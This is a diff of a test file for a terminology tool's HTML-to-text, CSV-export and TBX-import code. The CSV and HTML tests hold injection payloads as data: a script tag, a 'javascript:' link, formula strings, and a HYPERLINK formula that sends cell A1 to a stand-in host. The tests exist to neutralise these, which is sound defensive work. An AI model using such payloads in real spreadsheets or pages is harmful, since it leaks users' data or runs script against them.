@@ -175,41 +175,46 @@ describe('HTML in texts', () => {
     ['a<br/>b<script>alert(1)</script>', 'a\nb'],
     ['<b>x</b> &lt; 5 &amp; <y> is kept', 'x < 5 & <y> is kept'],
     ['<a href="javascript:x">bağ</a>', 'bağ'],
+    ['R &Omega; &le; b, &Delta;T, &alpha;-iron, x &minus; y', 'R Ω ≤ b, ΔT, α-iron, x − y'],
+    ['da&gbreve;, &Idot;stanbul, &#8486;, &eacute;', 'dağ, İstanbul, \u2126, é'],
   ])('converts %j to %j', (html, text) => {
     expect(hasHtml(html)).toBe(true);
     expect(htmlToText(html)).toBe(text);
   });
 
-  it.each(['a < b and c > d', 'x <y> z', 'R&D', 'i<n; j>m', '5 &c'])('finds none in %j', (text) => {
-    expect(hasHtml(text)).toBe(false);
-  });
+  it.each(['a < b and c > d', 'x <y> z', 'R&D', 'R&D;', 'i<n; j>m', '5 &c'])(
+    'finds none in %j',
+    (text) => {
+      expect(hasHtml(text)).toBe(false);
+    },
+  );
 });
 
 describe('CSV cells', () => {
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', "'=x", "''-x"])('neutralises %j', (text) => {
     expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
-    expect(cellText(`'${text}`)).toBe(text);
+    expect(cellText(`'\u00a0${text}`)).toBe(text);
   });
 
   it.each([
-    [';=1+1', "';'=1+1"],
-    ['a;=HYPERLINK("http://x/?"&A1,"b");', 'a;\'=HYPERLINK("http://x/?"&A1,"b");'],
-    ['a,@b', "a,'@b"],
-    ['a\t+1', "a\t'+1"],
-    ['a\r\n-1', "a\r'\n'-1"],
-    ['a; "=1', 'a;\' "=1'],
-    ['＝1+1', "'＝1+1"],
-    ['a;＋1', "a;'＋1"],
-    ['a;－1;＠b', "a;'－1;'＠b"],
+    [';=1+1', '^;^=1+1'],
+    ['a;=HYPERLINK("http://x/?"&A1,"b");', 'a;^=HYPERLINK("http://x/?"&A1,"b");'],
+    ['a,@b', 'a,^@b'],
+    ['a\t+1', 'a\t^+1'],
+    ['a\r\n-1', 'a\r^\n^-1'],
+    ['a; "=1', 'a;^ "=1'],
+    ['＝1+1', '^＝1+1'],
+    ['a;＋1', 'a;^＋1'],
+    ['a;－1;＠b', 'a;^－1;^＠b'],
   ])('neutralises %j after the separators of other locales', (text, safe) => {
     const cell = csvCell(text);
     const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
-    expect(shown).toBe(safe);
+    expect(shown).toBe(safe.replaceAll('^', "'\u00a0"));
     expect(cellText(shown)).toBe(text);
   });
 
   it('reads back every text, and writes no cell that a spreadsheet takes for a formula', () => {
-    const characters = fc.constantFrom(...`=+-@;,\t\r\n'" ax＝`);
+    const characters = fc.constantFrom(...`=+-@;,\t\r\n'" \u00a0ax＝`);
     fc.assert(
       fc.property(fc.string({ unit: characters, maxLength: 12 }), (text) => {
         const cell = csvCell(text);
@@ -224,6 +229,9 @@ describe('CSV cells', () => {
   it('does not change other text and numbers', () => {
     expect(csvCell("'tis")).toBe("'tis");
     expect(cellText("'tis")).toBe("'tis");
+    // Of other programs, where the apostrophe is the author's.
+    for (const text of ["'=' compares", "'@' symbol", "'+','-','='"])
+      expect(cellText(text)).toBe(text);
     expect(csvCell(-5)).toBe('-5');
   });
 
@@ -273,6 +281,20 @@ describe('TBX', () => {
         category: 'civil',
         englishTerm: 'beam',
         names: [{ text: 'girder', language: 'en', kind: 'synonym' }],
+        turkishTerm: 'kiriş',
+      },
+    ]);
+  });
+
+  it('reads DCT style, and languages with an underscore', async () => {
+    const dct =
+      '<tbx style="dct" type="TBX-Basic" xmlns:min="m" xmlns:basic="b"><text><body><conceptEntry><min:subjectField>civil</min:subjectField><langSec xml:lang="en_US"><basic:definition>A bar.</basic:definition><termSec><term>beam</term><basic:context>The beam bends.</basic:context></termSec></langSec><langSec xml:lang="tr_TR"><termSec><term>kiriş</term></termSec></langSec></conceptEntry></body></text></tbx>';
+    expect(await read(dct)).toEqual([
+      {
+        category: 'civil',
+        englishTerm: 'beam',
+        englishDefinition: 'A bar.',
+        englishExample: 'The beam bends.',
         turkishTerm: 'kiriş',
       },
     ]);
